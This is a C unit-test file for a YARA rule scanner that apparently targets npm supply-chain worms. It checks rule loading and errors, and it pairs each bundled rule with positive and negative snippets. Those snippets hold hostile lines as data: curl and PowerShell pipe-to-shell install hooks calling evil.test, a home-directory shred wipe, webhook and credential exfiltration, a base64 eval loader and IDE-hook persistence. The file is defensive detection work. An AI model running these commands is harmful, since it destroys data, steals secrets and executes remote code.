/* YARA rules: loading, compile errors, meta, and every bundled rule against
 * a positive and a negative sample. The samples are synthetic snippets
 * carrying the markers, not malware. */

#include <check.h>
#include <dirent.h>
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "rules/rules.h"
#include "rules/rules_internal.h"
#include "util/error.h"
#include "util/strbuf.h"
#include "util/xalloc.h"

#ifndef TEST_DATA
#define TEST_DATA "tests/data"
#endif
#define BUNDLED_RULES TEST_DATA "/../../rules"

/* ---- fixtures ---- */

static char *fx_root;

static void
fx_setup(void)
{
	const char *tmp = getenv("TMPDIR");
	struct strbuf sb;

	strbuf_init(&sb, 4096);
	strbuf_addf(&sb, "%s/ws-rules-XXXXXX", tmp && *tmp ? tmp : "/tmp");
	fx_root = strbuf_detach(&sb, NULL);
	ck_assert_msg(mkdtemp(fx_root) != NULL, "mkdtemp: %s", strerror(errno));
}

static void
fx_teardown(void)
{
	DIR *d = opendir(fx_root);
	struct dirent *de;

	while (d && (de = readdir(d))) {
		struct strbuf sb;

		if (!strcmp(de->d_name, ".") || !strcmp(de->d_name, ".."))
			continue;
		strbuf_init(&sb, 4096);
		strbuf_addf(&sb, "%s/%s", fx_root, de->d_name);
		unlink(sb.buf);
		strbuf_release(&sb);
	}
	if (d)
		closedir(d);
	rmdir(fx_root);
	free(fx_root);
	fx_root = NULL;
}

static void
fx_write(const char *name, const char *text)
{
	struct strbuf sb;
	FILE *f;

	strbuf_init(&sb, 4096);
	strbuf_addf(&sb, "%s/%s", fx_root, name);
	f = fopen(sb.buf, "wb");
	ck_assert_msg(f != NULL, "fopen %s: %s", sb.buf, strerror(errno));
	ck_assert_int_eq(fputs(text, f) >= 0, 1);
	ck_assert_int_eq(fclose(f), 0);
	strbuf_release(&sb);
}

static struct rules *
load_dir(const char *dir)
{
	const char *dirs[] = { dir };
	struct rules *r = NULL;
	int err = rules_load(&r, dirs, 1);

	ck_assert_msg(err == 0, "rules_load %s: %s", dir, ws_error_last());
	return r;
}

/* ---- what a scan reports ---- */

#define HITS_MAX 64

struct hits {
	size_t n;
	char rule[HITS_MAX][128];
	char ns[HITS_MAX][128];
	int has_meta[HITS_MAX];
	char severity[HITS_MAX][16];
};

static void
on_match(const struct rules_match *m, void *payload)
{
	struct hits *h = payload;

	if (h->n >= HITS_MAX)
		return;
	snprintf(h->rule[h->n], sizeof(h->rule[0]), "%s", m->rule);
	snprintf(h->ns[h->n], sizeof(h->ns[0]), "%s", m->ns);
	snprintf(h->severity[h->n], sizeof(h->severity[0]), "%s",
		 m->severity ? m->severity : "");
	h->has_meta[h->n] = m->description && *m->description && m->severity &&
		m->family && *m->family && m->reference && *m->reference;
	h->n++;
}

static struct hits
scan_text(const struct rules *r, const char *text)
{
	struct hits h;

	memset(&h, 0, sizeof(h));
	ck_assert_int_eq(rules_scan(r, text, strlen(text), on_match, &h), 0);
	return h;
}

static int
hits_have(const struct hits *h, const char *rule)
{
	size_t i;

	for (i = 0; i < h->n; i++)
		if (strcmp(h->rule[i], rule) == 0)
			return (int)i + 1;
	return 0;
}

/* ---- global state for the whole run ---- */

static void
yr_setup(void)
{
	ck_assert_int_eq(rules_global_init(), 0);
}

static void
yr_teardown(void)
{
	rules_global_cleanup();
}

static void
fx_yr_setup(void)
{
	yr_setup();
	fx_setup();
}

static void
fx_yr_teardown(void)
{
	fx_teardown();
	yr_teardown();
}

/* ---- loading ---- */

START_TEST(load_compiles_every_file_with_its_namespace)
{
	struct rules *r;
	struct hits h;

	fx_write("b.yar", "rule dup { meta: severity = \"low\" strings: $a = \"marker-one\" condition: $a }\n");
	fx_write("a.yara", "rule dup { strings: $a = \"marker-one\" condition: $a }\n"
		 "rule other { strings: $a = \"marker-two\" condition: $a }\n");
	fx_write("notes.txt", "this is not a rule file {");
	fx_write(".hidden.yar", "rule { broken");
	r = load_dir(fx_root);
	ck_assert_uint_eq(rules_count(r), 3);
	h = scan_text(r, "xx marker-one yy");
	ck_assert_uint_eq(h.n, 2);
	ck_assert(strcmp(h.ns[0], "a") == 0 || strcmp(h.ns[1], "a") == 0);
	ck_assert(strcmp(h.ns[0], "b") == 0 || strcmp(h.ns[1], "b") == 0);
	rules_free(r);
}
END_TEST

START_TEST(load_several_dirs_and_none)
{
	const char *dirs[] = { fx_root, BUNDLED_RULES };
	struct rules *r = NULL;

	fx_write("extra.yar", "rule extra_rule { strings: $a = \"extra-marker\" condition: $a }\n");
	ck_assert_int_eq(rules_load(&r, dirs, 2), 0);
	ck_assert_uint_gt(rules_count(r), 20);
	ck_assert(hits_have((struct hits[]){ scan_text(r, "extra-marker") },
			    "extra_rule"));
	rules_free(r);

	ck_assert_int_eq(rules_load(&r, NULL, 0), 0);
	ck_assert_uint_eq(rules_count(r), 0);
	ck_assert_uint_eq(scan_text(r, "anything").n, 0);
	rules_free(r);
	rules_free(NULL);
	ck_assert_uint_eq(rules_count(NULL), 0);
}
END_TEST

START_TEST(load_missing_dir_is_not_found)
{
	const char *dirs[] = { "/nonexistent/wormsign-rules" };
	struct rules *r = (struct rules *)1;

	ck_assert_int_eq(rules_load(&r, dirs, 1), WS_ENOTFOUND);
	ck_assert_ptr_null(r);
	ck_assert_ptr_nonnull(strstr(ws_error_last(), "/nonexistent/wormsign-rules"));
}
END_TEST

START_TEST(load_reports_file_and_line_of_compile_error)
{
	const char *dirs[] = { fx_root };
	struct rules *r = NULL;
	struct strbuf want;

	fx_write("good.yar", "rule fine { condition: true }\n");
	fx_write("zbad.yar", "rule fine2 {\n  strings:\n    $a = \"x\"\n  condition:\n    $a and\n}\n");
	ck_assert_int_eq(rules_load(&r, dirs, 1), WS_EPARSE);
	ck_assert_ptr_null(r);
	strbuf_init(&want, 4096);
	strbuf_addf(&want, "%s/zbad.yar:6: ", fx_root);
	ck_assert_msg(strncmp(ws_error_last(), want.buf, want.len) == 0,
		      "got \"%s\", want prefix \"%s\"", ws_error_last(),
		      want.buf);
	strbuf_release(&want);
}
END_TEST

START_TEST(load_reports_undefined_identifier)
{
	const char *dirs[] = { fx_root };
	struct rules *r = NULL;

	fx_write("x.yar", "rule a {\n condition: $nope\n}\n");
	ck_assert_int_eq(rules_load(&r, dirs, 1), WS_EPARSE);
	ck_assert_ptr_nonnull(strstr(ws_error_last(), "x.yar:3: "));
	ck_assert_ptr_nonnull(strstr(ws_error_last(), "$nope"));
}
END_TEST

START_TEST(load_refuses_include)
{
	const char *dirs[] = { fx_root };
	struct rules *r = NULL;

	fx_write("inc.yar", "include \"/etc/passwd\"\nrule a { condition: true }\n");
	ck_assert_int_eq(rules_load(&r, dirs, 1), WS_EPARSE);
	ck_assert_ptr_nonnull(strstr(ws_error_last(), "inc.yar:1: include is not supported"));
}
END_TEST

START_TEST(load_refuses_duplicate_rule_in_one_file)
{
	const char *dirs[] = { fx_root };
	struct rules *r = NULL;

	fx_write("d.yar", "rule a { condition: true }\nrule a { condition: false }\n");
	ck_assert_int_eq(rules_load(&r, dirs, 1), WS_EPARSE);
	ck_assert_ptr_nonnull(strstr(ws_error_last(), "d.yar:2: "));
}
END_TEST

START_TEST(load_refuses_oversized_file)
{
	const char *dirs[] = { fx_root };
	struct rules *r = NULL;
	size_t n = RULES_FILE_MAX + 10;
	char *big = xmalloc(n + 1);

	memset(big, ' ', n);
	memcpy(big, "rule a { condition: true }", 26);
	big[n] = '\0';
	fx_write("big.yar", big);
	free(big);
	ck_assert_int_eq(rules_load(&r, dirs, 1), WS_ELIMIT);
	ck_assert_ptr_nonnull(strstr(ws_error_last(), "big.yar"));
}
END_TEST

START_TEST(load_mem_rejects_nul_and_reports_name)
{
	struct rules *r = NULL;

	ck_assert_int_eq(rules_load_mem(&r, "rule a {\0}", 10, "m"), WS_EPARSE);
	ck_assert_int_eq(rules_load_mem(&r, "rule a {", 8, "mem.yar"),
			 WS_EPARSE);
	ck_assert_ptr_nonnull(strstr(ws_error_last(), "mem.yar: syntax error"));
	ck_assert_int_eq(rules_load_mem(&r, "rule a { condition: true }", 26,
					"ok"), 0);
	ck_assert_uint_eq(rules_count(r), 1);
	rules_free(r);
}
END_TEST

START_TEST(scan_gives_meta_and_empty_buffer)
{
	struct rules *r = NULL;
	struct hits h;
	const char *src =
		"rule m { meta: description = \"d\" severity = \"medium\" "
		"family = \"f\" reference = \"https://example.test/\" count = 3 "
		"condition: true }\n";

	ck_assert_int_eq(rules_load_mem(&r, src, strlen(src), "meta"), 0);
	memset(&h, 0, sizeof(h));
	ck_assert_int_eq(rules_scan(r, NULL, 0, on_match, &h), 0);
	ck_assert_uint_eq(h.n, 1);
	ck_assert_str_eq(h.rule[0], "m");
	ck_assert_str_eq(h.ns[0], "meta");
	ck_assert_str_eq(h.severity[0], "medium");
	ck_assert_int_eq(h.has_meta[0], 1);
	rules_free(r);
}
END_TEST

/* ---- the bundled rules ---- */

struct sample {
	const char *rule;
	const char *positive;
	const char *negative;
};

static const struct sample samples[] = {
	{ "shai_hulud_webhook_exfil",
	  "const u = \"https://webhook.site/bb8ca5f6-4175-45d2-b042-fc9ebb8170b7\";\nawait fetch(u, { body });",
	  "await fetch(\"https://webhook.site/00000000-1111-2222-3333-444444444444\", { body });" },
	{ "shai_hulud_workflow_drop",
	  "await repo.put(\".github/workflows/shai-hulud-workflow.yml\", yaml);",
	  "await repo.put(\".github/workflows/ci.yml\", yaml); // refs/heads/main" },
	{ "shai_hulud_trufflehog_harvest",
	  "const dl = \"https://github.com/trufflesecurity/trufflehog/releases/download/v3.90.6/trufflehog_3.90.6_linux_amd64.tar.gz\";\n"
	  "const me = await get(reg + \"/-/whoami\", token);\nconst gh = process.env.GITHUB_TOKEN;",
	  "// scan the repository with trufflehog (see its releases/download page)\nrun(\"trufflehog git file://.\");" },
	{ "shai_hulud_migration_repos",
	  "await createRepo({ name: name + \"-migration\", description: \"Shai-Hulud Migration\", private: false });",
	  "await createRepo({ name: name + \"-migration\", description: \"repository migration\" });" },
	{ "sha1_hulud_repo_description",
	  "{\"name\":\"a1b2c3d4e5f6g7h8i9\",\"description\":\"Sha1-Hulud: The Second Coming.\"}",
	  "{\"name\":\"dune-notes\",\"description\":\"notes on the second coming of the sandworm\"}" },
	{ "sha1_hulud_bun_loader",
	  "const { spawn } = require(\"child_process\");\nspawn(bunPath, [\"bun_environment.js\"], { detached: true });",
	  "const { spawn } = require(\"child_process\");\nspawn(bunPath, [\"build.js\"]);" },
	{ "sha1_hulud_runner_registration",
	  "cd ~/.dev-env && ./config.sh --url https://github.com/o/r --unattended --token $T --name SHA1HULUD",
	  "cd ~/runner && ./config.sh --url https://github.com/o/r --unattended --token $T --name build-01" },
	{ "sha1_hulud_discussion_backdoor",
	  "on: discussion\njobs:\n  x:\n    runs-on: self-hosted\n    steps:\n      - run: echo ${{ github.event.discussion.body }}\n",
	  "on: discussion\njobs:\n  x:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo ${{ github.event.discussion.title }}\n" },
	{ "sha1_hulud_exfil_files",
	  "for (const f of [\"contents.json\", \"environment.json\", \"cloud.json\", \"actionsSecrets.json\", \"truffleSecrets.json\"]) upload(f);",
	  "for (const f of [\"contents.json\", \"environment.json\", \"cloud.json\"]) load(f);" },
	{ "sha1_hulud_home_wipe",
	  "Bun.spawnSync([\"bash\", \"-c\", \"find \\\"$HOME\\\" -type f -writable -print0 | xargs -0 -r shred -uvz -n 1\"]);",
	  "execSync(\"shred -u /tmp/build/secret.key\");" },
	{ "sha1_hulud_runner_host_tamper",
	  "sudo cp /tmp/resolved.conf /etc/systemd/resolved.conf && sudo iptables -F OUTPUT",
	  "sudo cp ./resolved.conf /etc/systemd/resolved.conf && sudo systemctl restart systemd-resolved" },
	{ "mini_shai_hulud_deadman_switch",
	  "systemctl --user enable --now gh-token-monitor.service",
	  "systemctl --user enable --now gh-cli-update.service" },
	{ "mini_shai_hulud_tanstack_git_pin",
	  "{\"name\":\"@tanstack/history\",\"version\":\"1.161.9\",\"optionalDependencies\":{\"@tanstack/setup\":\"github:tanstack/router#79ac49eedf774dd4b0cfa308722bc463cfe5885c\"}}",
	  "{\"name\":\"@tanstack/history\",\"version\":\"1.161.6\",\"optionalDependencies\":{\"fsevents\":\"^2.3.2\"},\"dependencies\":{\"@tanstack/router\":\"1.2.3\"}}" },
	{ "mini_shai_hulud_tanstack_runner",
	  "{\"name\":\"@tanstack/setup\",\"scripts\":{\"prepare\":\"bun run tanstack_runner.js && exit 1\"}}",
	  "{\"name\":\"@tanstack/router-devtools\",\"scripts\":{\"prepare\":\"bun run build\"}}" },
	{ "mini_shai_hulud_network",
	  "https.get(\"https://git-tanstack.com/tmp/transformers.pyz\", save);",
	  "https.get(\"https://tanstack.com/router/latest\", save);" },
	{ "mini_shai_hulud_session_exfil",
	  "const seeds = [\"seed1.getsession.org\"];\nconst t = process.env.GITHUB_TOKEN;",
	  "const seeds = [\"seed1.getsession.org\"]; // Session messenger client" },
	{ "mini_shai_hulud_repo_descriptions",
	  "await createRepo({ description: \"A Mini Shai-Hulud has Appeared\" });",
	  "await createRepo({ description: \"A mini sandworm appeared\" });" },
	{ "mini_shai_hulud_campaign_constants",
	  "const key = crypto.pbkdf2Sync(pass, \"svksjrhjkcejg\", 100000, 32, \"sha256\");",
	  "const key = crypto.pbkdf2Sync(pass, salt, 100000, 32, \"sha256\");" },
	{ "mini_shai_hulud_bun_loader",
	  "const url = \"https://github.com/oven-sh/bun/releases/download/bun-v1.3.13/bun-linux-x64.zip\";\nspawn(bun, [\"execution.js\"]);",
	  "const url = \"https://github.com/oven-sh/bun/releases/download/bun-v1.3.13/bun-linux-x64.zip\";\nspawn(bun, [\"test\"]);" },
	{ "mini_shai_hulud_ide_persistence",
	  "write(\".claude/settings.json\", { hooks: { SessionStart: [{ command: \"node .claude/setup.mjs\" }] } });",
	  "write(\".claude/settings.json\", { hooks: { SessionStart: [{ command: \"echo hello\" }] } });" },
	{ "mini_shai_hulud_dune_repo_names",
	  "const a = [\"sardaukar\", \"mentat\", \"fremen\", \"atreides\", \"harkonnen\", \"gesserit\", \"tleilaxu\"];\n"
	  "const b = [\"sandworm\", \"ornithopter\", \"heighliner\", \"stillsuit\", \"lasgun\", \"sietch\"];",
	  "The Atreides and the Harkonnen: fremen rode a sandworm to the sietch in stillsuits, a mentat said." },
	{ "mini_shai_hulud_dune_repo_names",
	  "https://github.com/victim/fremen-sietch-42",
	  "https://github.com/victim/fremen-sietch-notes" },
	{ "mini_shai_hulud_workflow_injection",
	  "git push origin HEAD:dependabout/github_actions/format/setup-formatter",
	  "git push origin HEAD:dependabot/github_actions/format/setup-formatter" },
	{ "mini_shai_hulud_pwn_request_workflow",
	  "on:\n  pull_request_target:\njobs:\n  b:\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n",
	  "on:\n  pull_request_target:\njobs:\n  label:\n    steps:\n      - uses: actions/labeler@v5\n" },
	{ "install_script_pipe_to_shell",
	  "{\"scripts\":{\"postinstall\":\"curl -fsSL https://evil.test/x.sh | sh\"}}",
	  "{\"scripts\":{\"postinstall\":\"curl -fsSL -o vendor.tgz https://cdn.example.test/vendor.tgz\"}}" },
	{ "install_script_pipe_to_shell",
	  "{\"scripts\":{\"preinstall\":\"powershell -c \\\"irm https://evil.test/a.ps1 | iex\\\"\"}}",
	  "{\"scripts\":{\"test\":\"curl -s https://example.test/x.sh | sh\"}}" },
	{ "install_script_node_bundle",
	  "{\"scripts\":{\"postinstall\":\"node bundle.js\"}}",
	  "{\"scripts\":{\"build\":\"node bundle.js\"}}" },
	{ "install_script_setup_bun",
	  "{\"scripts\":{\"preinstall\":\"node setup_bun.js\"}}",
	  "{\"scripts\":{\"preinstall\":\"node setup.js\"}}" },
	{ "install_script_setup_mjs",
	  "{\"scripts\":{\"preinstall\":\"node setup.mjs\"}}",
	  "{\"scripts\":{\"pretest\":\"node setup.mjs\"}}" },
	{ "install_script_bun_run",
	  "{\"scripts\":{\"postinstall\":\"bun run install-hook.js\"}}",
	  "{\"scripts\":{\"test\":\"bun run spec.js\"}}" },
	{ "obfuscated_base64_eval",
	  "eval(Buffer.from(\"Y29uc29sZS5sb2coMSk=\", \"base64\").toString());",
	  "const s = Buffer.from(\"Y29uc29sZS5sb2coMSk=\", \"base64\").toString(); console.log(s);" },
	{ "obfuscated_base64_eval",
	  "new Function(atob(\"Y29uc29sZS5sb2coMSk=\"))();",
	  "const s = atob(\"Y29uc29sZS5sb2coMSk=\"); console.log(eval.length);" },
	{ "credential_harvest_exfil",
	  "const a = read(join(home, \".npmrc\"));\nconst b = read(join(home, \".aws/credentials\"));\n"
	  "const t = process.env.GITHUB_TOKEN;\nconst req = https.request({ host, method: \"POST\" });",
	  "const a = read(join(home, \".npmrc\"));\nconst req = https.request({ host, method: \"GET\" });" },
};

#define NSAMPLES (sizeof(samples) / sizeof(samples[0]))

static struct rules *bundled;

static void
bundled_setup(void)
{
	yr_setup();
	bundled = load_dir(BUNDLED_RULES);
}

static void
bundled_teardown(void)
{
	rules_free(bundled);
	bundled = NULL;
	yr_teardown();
}

START_TEST(bundled_rule_matches_its_positive_sample)
{
	const struct sample *s = &samples[_i];
	struct hits h = scan_text(bundled, s->positive);
	int at = hits_have(&h, s->rule);

	ck_assert_msg(at, "%s does not match its positive sample", s->rule);
	ck_assert_msg(h.has_meta[at - 1], "%s lacks description, severity, family or reference",
		      s->rule);
}
END_TEST

START_TEST(bundled_rule_ignores_its_negative_sample)
{
	const struct sample *s = &samples[_i];
	struct hits h = scan_text(bundled, s->negative);

	ck_assert_msg(h.n == 0, "negative sample of %s matches %s", s->rule,
		      h.n ? h.rule[0] : "");
}
END_TEST

START_TEST(bundled_rules_are_all_sampled)
{
	size_t i, j, distinct = 0;

	for (i = 0; i < NSAMPLES; i++) {
		for (j = 0; j < i; j++)
			if (strcmp(samples[i].rule, samples[j].rule) == 0)
				break;
		distinct += j == i;
	}
	ck_assert_uint_eq(distinct, rules_count(bundled));
}
END_TEST

START_TEST(bundled_severities_are_known)
{
	static const char *const known[] = {
		"info", "low", "medium", "high", "critical",
	};
	size_t i, k;

	for (i = 0; i < NSAMPLES; i++) {
		struct hits h = scan_text(bundled, samples[i].positive);
		size_t j;

		for (j = 0; j < h.n; j++) {
			for (k = 0; k < 5; k++)
				if (strcmp(h.severity[j], known[k]) == 0)
					break;
			ck_assert_msg(k < 5, "%s: severity \"%s\"", h.rule[j],
				      h.severity[j]);
		}
	}
}
END_TEST

START_TEST(bundled_rules_quiet_on_ordinary_code)
{
	static const char *const ordinary[] = {
		"{\"name\":\"left-pad\",\"version\":\"1.3.0\",\"scripts\":{\"test\":\"node test.js\",\"postinstall\":\"node-gyp rebuild\"}}",
		"'use strict';\nmodule.exports = function leftPad(str, len, ch) { return String(str).padStart(len, ch); };\n",
		"const https = require('https');\nhttps.request({ method: 'POST', host: 'api.example.test' }).end(JSON.stringify(body));\n",
		"{\"scripts\":{\"prepare\":\"husky install\",\"install\":\"node-pre-gyp install --fallback-to-build\"}}",
	};
	size_t i;

	for (i = 0; i < sizeof(ordinary) / sizeof(*ordinary); i++) {
		struct hits h = scan_text(bundled, ordinary[i]);

		ck_assert_msg(h.n == 0, "ordinary sample %zu matches %s", i,
			      h.n ? h.rule[0] : "");
	}
}
END_TEST

static Suite *
rules_suite(void)
{
	Suite *s = suite_create("rules");
	TCase *tc;

	tc = tcase_create("load");
	tcase_add_checked_fixture(tc, fx_yr_setup, fx_yr_teardown);
	tcase_add_test(tc, load_compiles_every_file_with_its_namespace);
	tcase_add_test(tc, load_several_dirs_and_none);
	tcase_add_test(tc, load_missing_dir_is_not_found);
	tcase_add_test(tc, load_refuses_oversized_file);
	suite_add_tcase(s, tc);

	tc = tcase_create("errors");
	tcase_add_checked_fixture(tc, fx_yr_setup, fx_yr_teardown);
	tcase_add_test(tc, load_reports_file_and_line_of_compile_error);
	tcase_add_test(tc, load_reports_undefined_identifier);
	tcase_add_test(tc, load_refuses_include);
	tcase_add_test(tc, load_refuses_duplicate_rule_in_one_file);
	tcase_add_test(tc, load_mem_rejects_nul_and_reports_name);
	suite_add_tcase(s, tc);

	tc = tcase_create("scan");
	tcase_add_checked_fixture(tc, yr_setup, yr_teardown);
	tcase_add_test(tc, scan_gives_meta_and_empty_buffer);
	suite_add_tcase(s, tc);

	tc = tcase_create("bundled");
	tcase_add_checked_fixture(tc, bundled_setup, bundled_teardown);
	tcase_add_loop_test(tc, bundled_rule_matches_its_positive_sample, 0,
			    (int)NSAMPLES);
	tcase_add_loop_test(tc, bundled_rule_ignores_its_negative_sample, 0,
			    (int)NSAMPLES);
	tcase_add_test(tc, bundled_rules_are_all_sampled);
	tcase_add_test(tc, bundled_severities_are_known);
	tcase_add_test(tc, bundled_rules_quiet_on_ordinary_code);
	suite_add_tcase(s, tc);
	return s;
}

int
main(void)
{
	SRunner *sr = srunner_create(rules_suite());
	int failed;

	srunner_run_all(sr, CK_NORMAL);
	failed = srunner_ntests_failed(sr);
	srunner_free(sr);
	return failed ? EXIT_FAILURE : EXIT_SUCCESS;
}
